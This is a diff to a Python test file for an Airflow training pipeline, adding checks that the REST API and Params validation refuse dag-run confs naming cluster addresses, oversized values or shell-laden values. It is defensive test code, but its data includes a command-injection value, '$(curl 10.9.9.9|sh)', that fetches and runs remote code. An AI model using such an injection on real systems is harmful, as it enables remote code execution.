@@ -158,6 +158,9 @@ INVALID_CONFS: list[tuple[dict[str, Any], str, str]] = [
     ({"seed": -1}, "seed", "is less than the minimum of 0"),
     ({"promote": "yes"}, "promote", "is not of type 'boolean'"),
     ({"cluster": 5}, "cluster", "5 is not of type 'null', 'string'"),
+    # Addresses are the deployment's: a run may only name a configured cluster (none here).
+    ({"cluster": '{"worker": ["w:1"], "ps": ["p:1"]}'}, "cluster", "is not one of [None, '']"),
+    ({"launcher": "ray", "ray_cluster": "ray://127.0.0.1:1"}, "ray_cluster", "is not one of"),
 ]
 
 
@@ -212,7 +215,11 @@ def test_invalid_confs_fail_airflow_validation_naming_the_field(
 
 # Airflow's REST API app in-process (`airflow.api_fastapi.app`), on this home's metadata DB, every
 # request as admin (simple auth manager): the route, body parsing and Params validation a live
-# api-server runs. The body is sent as text, as the official client sends a float NaN.
+# api-server runs. Each body (a JSON list on stdin) is sent as text, as the official client sends
+# a float NaN.
+# What an Op sent in issue 25: the task then presented the deployment's Ray token to it.
+HOSTILE = "ray://127.0.0.1:9"
+
 _REST_SCRIPT = textwrap.dedent(
     """
     import json, sys
@@ -221,7 +228,7 @@ _REST_SCRIPT = textwrap.dedent(
 
     client = TestClient(create_app("core"))
     answers = []
-    for body in sys.argv[2:]:
+    for body in json.load(sys.stdin):
         response = client.post(
             f"/api/v2/dags/{sys.argv[1]}/dagRuns",
             content=body,
@@ -234,15 +241,23 @@ _REST_SCRIPT = textwrap.dedent(
 
 
 @pytest.mark.integration  # on a migrated metadata DB (airflow_home)
-def test_rest_api_refuses_non_finite_numbers_naming_the_field(airflow_home: AirflowHome) -> None:
+def test_rest_api_refuses_non_finite_numbers_and_cluster_addresses_naming_the_field(
+    airflow_home: AirflowHome,
+) -> None:
     bodies = [
         '{"logical_date": null, "conf": {"learning_rate": NaN}}',
         '{"logical_date": null, "conf": {"learning_rate": Infinity}}',
         '{"logical_date": null, "conf": {"learning_rate": -Infinity}}',
+        # Where training runs is the deployment's: an address, a 1 MB value or a shell-laden one
+        # in a cluster field is refused before any run exists (issue 25: all three were 200).
+        json.dumps({"logical_date": None, "conf": {"launcher": "ray", "ray_cluster": HOSTILE}}),
+        json.dumps({"logical_date": None, "conf": {"ray_cluster": "r" * 1_000_000}}),
+        json.dumps({"logical_date": None, "conf": {"cluster": "$(curl 10.9.9.9|sh)"}}),
     ]
     runs_before = airflow_home.run_count()
     result = subprocess.run(
-        [sys.executable, "-c", _REST_SCRIPT, DAG_ID, *bodies],
+        [sys.executable, "-c", _REST_SCRIPT, DAG_ID],
+        input=json.dumps(bodies),  # 1 MB: more than one command-line argument may hold
         env={**airflow_home.env, "AIRFLOW__CORE__SIMPLE_AUTH_MANAGER_ALL_ADMINS": "True"},
         capture_output=True,
         text=True,
@@ -252,8 +267,11 @@ def test_rest_api_refuses_non_finite_numbers_naming_the_field(airflow_home: Airf
     assert result.returncode == 0, result.stderr[-3000:]
     answers = json.loads(result.stdout.strip().splitlines()[-1])
 
-    assert [answer["status"] for answer in answers] == [400, 400, 400], answers
-    for answer in answers:
+    assert [answer["status"] for answer in answers] == [400] * 6, [a["status"] for a in answers]
+    for answer in answers[:3]:
         assert answer["json"]["detail"].startswith("Invalid input for param learning_rate: ")
     assert "NaN, Infinity or -Infinity" in answers[0]["json"]["detail"]
+    for answer, field in zip(answers[3:], ["ray_cluster", "ray_cluster", "cluster"], strict=True):
+        assert answer["json"]["detail"].startswith(f"Invalid input for param {field}: ")
+        assert "is not one of [None, '']" in answer["json"]["detail"]
     assert airflow_home.run_count() == runs_before
